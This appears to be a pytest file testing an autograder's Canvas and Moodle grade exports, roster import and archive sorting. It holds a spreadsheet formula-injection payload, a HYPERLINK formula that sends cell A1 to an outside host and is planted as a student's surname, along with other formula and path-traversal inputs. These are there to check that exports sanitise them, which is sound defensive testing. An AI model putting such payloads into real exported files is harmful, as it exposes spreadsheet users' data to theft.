"""Files for Canvas and Moodle, read back as those read them; the table of parts; class lists."""

import csv
import io
import re
import unicodedata
from pathlib import Path
from shutil import copytree
from zipfile import ZipFile

import pytest
from gradebooks import canvas_import, moodle_import, override, submission
from nbgrader.apps import ExportApp

from autograder.core.errors import AutograderError
from autograder.course import CourseAssignment
from autograder.nbgrader_adapter.course_settings.database import open_gradebook
from autograder.nbgrader_adapter.course_settings.gradebook import recorded_beside
from autograder.nbgrader_adapter.course_settings.settings import course_config
from autograder.report.lms.class_list import read_roster
from autograder.report.lms.grade_files import canvas_table, moodle_table, write
from autograder.report.lms.lti import Passback
from autograder.report.lms.sheets import LmsStudent, Recorded, Score, Sheet, Table, editions_joined
from autograder.report.plain_text import cell_text, identifier
from tests.conftest import succeeding
from tests.courses import configure

EXPORTS = "autograder.nbgrader_adapter.exports"
EVIL = '=HYPERLINK("http://example.org?"&A1)'
LOGINS = {"ada": 101, "bob": 202, "wei": 303, "cleo": 404, "dan": 505, "eve": 606}


@pytest.fixture(scope="module")
def marked(tmp_path_factory, generated, assignment) -> Path:
    """Six students: complete, overridden and late, nameless, half graded, absent, Chinese."""
    course = copytree(generated, tmp_path_factory.mktemp("marked") / "course")
    configure(course, 'c.CanvasExporter.assignment_ids = {"attention": 4711}')
    with open_gradebook(course) as gradebook:
        add = gradebook.add_student
        add("ada", first_name="Ada", last_name="Li", email="ada@example.org", lms_user_id="101")
        add("bob", first_name="Bob", last_name=EVIL, email="bob@example.org", lms_user_id="202")
        add("cleo")
        add("dan", first_name="Dan", last_name="O\nRow", email="dan@example.org")
        add("eve", first_name="Eve", last_name="Yu", email="eve@example.org", lms_user_id="606x")
        add("wei", first_name="伟", last_name="张", email="wei@example.org", lms_user_id="303")
        submission(gradebook, "ada")
        submission(gradebook, "bob", penalty=9.5, causal_mask=0.0)
        submission(gradebook, "cleo")
        submission(gradebook, "dan", causal_mask=None)
        submission(gradebook, "wei", **dict.fromkeys((part.id for part in assignment.parts), 0.0))
    override(course, "bob", 2.25, extra=0.25, comment="A good idea,\nrewarded.")
    return course


def export(course: Path, name: str, *more: str) -> tuple[bytes, str]:
    words = (f"--exporter={EXPORTS}.{name}", "--to=out.csv", *more)
    errors = succeeding(course, "nbgrader", "export", *words).stderr
    return (course / "out.csv").read_bytes(), errors


def table(data: bytes) -> list[dict[str, str]]:
    return [*csv.DictReader(io.StringIO(data.decode("utf-8")))]


def harmless(data: bytes) -> None:
    """No cell is a formula to a spreadsheet; a hyphen alone and numbers are none."""
    for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")):
        for cell in row:
            first = unicodedata.normalize("NFKC", cell.strip()[:1])
            assert first not in ("=", "+", "-", "@") or cell == "-", cell
            assert not set(cell) & set("\t\r\n")


def test_canvas_reads_what_was_earned(marked, assignment):
    data, errors = export(marked, "CanvasExporter")
    users = {number: name for name, number in LOGINS.items()}
    possible, grades = canvas_import(data, users, LOGINS, {4711: "Attention mechanisms"})
    bob = 100 - {part.id: part.points for part in assignment.parts}["causal_mask"] + 2.5 - 9.5
    assert possible == {"Attention mechanisms": 100.0}
    assert {number: grade for (number, _), grade in grades.items()} == {
        101: "100.00", 202: f"{bob:.2f}", 303: "0.00", 404: "100.00", 505: "", 606: "",
    }  # fmt: skip
    harmless(data)
    assert "not graded in full, left empty: dan" in errors
    assert "no name in the gradebook (see `autograder roster`): cleo" in errors
    assert "no Canvas number (lms_user_id) in the gradebook" in errors


def test_moodle_reads_grades_and_comments(marked):
    data, errors = export(marked, "MoodleExporter")
    entered = moodle_import(data, {f"{name}@example.org": name for name in LOGINS})
    assert set(entered) == {"ada", "bob", "wei"} and entered["ada"][0] == 100
    feedback = entered["bob"][1]
    assert "causal_mask: A good idea, rewarded." in feedback and "late penalty 9.5" in feedback
    assert "left out, for want of an 'Email address' in the gradebook: cleo" in errors
    harmless(data)


def test_the_table_has_each_part(marked, assignment):
    data, _ = export(marked, "PartsExporter")
    rows = {row["student_id"]: row for row in table(data)}
    parts = [part.id for part in assignment.parts]
    assert [name for name in rows["ada"] if name in parts] == parts
    assert list(rows) == ["cleo", "bob", "ada", "dan", "eve", "wei"]
    bob, dan, eve = (rows[name] for name in ("bob", "dan", "eve"))
    assert (bob["causal_mask"], bob["overridden"]) == ("2.50", "causal_mask")
    assert float(bob["total"]) == float(bob["raw_score"]) - 9.5
    assert (dan["causal_mask"], dan["total"], dan["needs_manual_grade"]) == ("", "", "yes")
    assert (eve["submitted"], eve["total"]) == ("no", "")
    assert (bob["last_name"], rows["wei"]["last_name"]) == (f"'{EVIL}", "张")
    harmless(data)


@pytest.mark.parametrize(
    ("option", "word"),
    [("--student=adda", "there is no student 'adda' (is 'ada' meant?)"),
     ("--assignment=atention", "the gradebook has no assignment 'atention'"),
     ("--CanvasExporter.titles=attention=Final Score", "would not read a column")]
)  # fmt: skip
def test_a_wrong_wish_is_one_sentence(marked, capfd, option, word):
    app = ExportApp(log_level="WARN")
    wish = [f"--exporter={EXPORTS}.CanvasExporter", f"--to={marked / 'no.csv'}", option]
    app.initialize([f"--CourseDirectory.root={marked}", *wish], root=str(marked))
    with pytest.raises(SystemExit):
        app.start()
    (line,) = capfd.readouterr().err.splitlines()
    assert word in line
    assert not (marked / "no.csv").exists()


@pytest.mark.parametrize("cell", ["=1+1", "+1", "@SUM(A1)", " \t=1", "\r-1", "＝1", "\u200e=1"])
def test_no_text_is_computed_and_no_identifier_is_changed(cell):
    """Text gets an apostrophe; an identifier that would need one is left out."""
    assert cell_text(cell).startswith("'")
    assert identifier(cell) == ""


@pytest.mark.parametrize("name", ["ada ", " ada", "ada\u200b", "ada\u00a0", "\ufeffada", "a  da"])
def test_an_identifier_is_written_to_the_letter_or_left_out(name):
    assert identifier("s-0012@example.org") == "s-0012@example.org"
    assert identifier(name) == ""


def test_a_file_that_cannot_be_written_is_named(tmp_path):
    with pytest.raises(AutograderError, match="cannot be written: No such file"):
        write(tmp_path / "none" / "grades.csv", Table((("a",),)))


TWINS = [LmsStudent(name, lms_user_id="7", email="x@y.z") for name in ("a", "b")]
MARKS = {twin.id: Recorded(scores={"p": Score(1.0)}) for twin in TWINS}
SHEET = Sheet("attention", {"p": 1.0}, MARKS)


def test_two_students_with_one_identifier_are_refused():
    with pytest.raises(AutograderError, match="identifier '7'"):
        canvas_table(TWINS, [SHEET], {}, {}, "id")
    with pytest.raises(AutograderError, match="Email address 'x@y"):
        moodle_table(TWINS, [SHEET], "email", {})
    with pytest.raises(AutograderError, match="a and b have the same id"):
        Passback(TWINS, SHEET, "lms_user_id")


def test_a_moodle_file_that_would_be_its_header_alone_is_refused():
    """The default identifier is the address, and a class that came from folders has none."""
    with pytest.raises(AutograderError, match=r"MoodleExporter\.identifier = 'id'"):
        moodle_table([LmsStudent("a")], [SHEET], "email", {})
    assert len(moodle_table([LmsStudent("a")], [SHEET], "id", {}).rows) == 2


def test_a_student_of_two_editions_has_one_mark_unless_the_course_wants_both(bilingual):
    data, errors = export(bilingual, "PartsExporter")
    totals = {row["student_id"]: row["total"] for row in table(data)}
    assert totals == {"ada": "99.00", "bob": "", "cleo": "100.00", "dan": "100.50", "eve": ""}
    assert "handed in attention, attention-zh; the better total counts: ada, bob" in errors
    data, errors = export(bilingual, "PartsExporter", "--PartsExporter.one_mark=False")
    assert {row["assignment"] for row in table(data)} == {"attention", "attention-zh"}
    assert "the better total" not in errors


def test_an_edition_with_cells_of_its_own_stays_by_itself():
    sheets = [
        Sheet("attention", {"a": 1.0}, {"ada": Recorded(scores={"a": Score(1.0)})}),
        Sheet("attention-zh", {"a": 1.0, "essay": 5.0}, {}),
    ]
    assert editions_joined(sheets, [("attention", "attention-zh")]) == sheets


def test_the_class_page_reads_the_other_editions_totals(bilingual, assignment):
    english, chinese = (
        recorded_beside(CourseAssignment(bilingual, assignment, edition), course_config(bilingual))
        for edition in assignment.editions
    )
    assert english["ada"].elsewhere == {"attention-zh": 99.0}
    assert english["cleo"].elsewhere == {}
    assert chinese["bob"].elsewhere == {"attention": None}


CANVAS = """Student,ID,SIS User ID,SIS Login ID,Section,Essay (12)
    Points Possible,,,,,10
"Li, Ada",101,s-1,ada,One,7
"Student, Test",,,,One,
"""
MOODLE = "First name,Last name,Username,ID number,Email address\nAda,Li,ada,101,ada@example.org\n"
NBGRADER = "id,first_name,last_name,email,lms_user_id,is\nada,Ada,Li,ada@example.org,101,a\u2028b\n"
EXCEL = "Login;Surname;Given name;E-Mail;Canvas ID\r\nada;Li;Ada;ada@example.org;101\r\n;;;;\r\n"
CHINESE = "学号,姓,名,电子邮箱,编号\nada,Li,Ada,ada@example.org,101\n"


@pytest.mark.parametrize("content", [CANVAS, MOODLE, NBGRADER, EXCEL, CHINESE])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_each_spelling_names_the_same_student(content, encoding):
    email = "" if content is CANVAS else "ada@example.org"
    assert read_roster(content.encode(encoding)) == (LmsStudent("ada", "Ada", "Li", email, "101"),)


def test_a_column_can_be_chosen_for_the_ids():
    """Where students are known by their email addresses, the roster's id column is not theirs."""
    (student,) = read_roster(NBGRADER.encode(), id_column="Email")
    assert (student.id, student.lms_user_id) == ("ada@example.org", "101")


@pytest.mark.parametrize(
    ("content", "sentence"),
    [(b"", "is empty"), (b"id\n", "names no student"),
     (b"id,email\n,a@b.c\n", "no student id in line 2"),
     (b"colour,size\nred,1\n", "no column holds the student ids"),
     (b"id\n../gradebook\n", "line 2 of the roster: '../gradebook' cannot be"),
     (b"id\n" + b"x" * 129 + b"\n", "more than 128 letters"),
     ("id,name\nwei,张伟\n".encode("gb18030"), "is not UTF-8")]
)  # fmt: skip
def test_an_unusable_roster_is_refused(content, sentence):
    with pytest.raises(AutograderError, match=re.escape(sentence)):
        read_roster(content)


@pytest.fixture
def enrolled(ready) -> Path:
    with open_gradebook(ready) as gradebook:
        gradebook.add_student("ada", email="ada@example.org")
        gradebook.add_student("old", last_name="Old")
    for student in ("ada", "old", "zed"):
        (ready / "submitted" / student / "attention").mkdir(parents=True)
    return ready


def test_a_roster_adds_updates_and_names_who_is_missing(enrolled, printed):
    (enrolled / "roster.csv").write_text(
        "id,first_name,last_name,email\nada,Ada,Li,\nbob,Bob,Yu,bob@example.org\n", "utf-8"
    )
    assert printed(enrolled, "roster roster.csv").splitlines() == [
        "1 added, 1 updated, 0 unchanged",
        "submitted, but not on the roster: old, zed",
        "on the roster, but nothing submitted: bob",
    ]
    with open_gradebook(enrolled) as gradebook:
        students = {s.id: (s.first_name, s.last_name, s.email) for s in gradebook.students}
    assert students["ada"] == ("Ada", "Li", "ada@example.org"), "an empty cell takes nothing away"
    assert students["bob"][2] == "bob@example.org" and students["old"] == (None, "Old", None)


def test_a_roster_with_an_id_twice_writes_nothing(enrolled, refused):
    before = (enrolled / "gradebook.db").read_bytes()
    (enrolled / "roster.csv").write_text("id,name\nbob,Bob Yu\neve,Eve\nbob,Bob Li\n", "utf-8")
    error = refused(enrolled, "roster roster.csv")
    assert "roster.csv: the roster names a student more than once: bob (lines 2, 4);" in error
    assert (enrolled / "gradebook.db").read_bytes() == before


DOWNLOADS = {
    "Canvas": {
        "4711": "lovelaceada_4711_998877_attention.ipynb",
        "4712": "wuwei_LATE_4712_998878_attention-1.ipynb",
    },
    "Moodle": {
        "Ada Lovelace": "Ada Lovelace_1234_assignsubmission_file/attention.ipynb",
        "吴伟": "吴伟_1235_assignsubmission_file_attention.ipynb",
    },
}


@pytest.mark.parametrize("lms", DOWNLOADS)
def test_a_downloaded_archive_is_sorted_by_the_line_that_the_page_gives(
    lms, course, repository, solved
):
    for page in ("instructors.md", "instructors.zh.md"):
        text = (repository / "docs" / page).read_text("utf-8")
        configure(course, re.findall(rf"^# {lms}.*\n(c\..*)$", text, re.MULTILINE)[0])
    folder = course / "downloaded/attention/archive"
    folder.mkdir(parents=True)
    with ZipFile(folder / "submissions.zip", "w") as archive:
        for name in DOWNLOADS[lms].values():
            archive.writestr(name, solved.bytes())
    succeeding(course, "nbgrader", "zip_collect", "attention")
    found, problems = CourseAssignment.find(course, "attention").submissions()
    assert (found.keys(), problems) == (DOWNLOADS[lms].keys(), {})
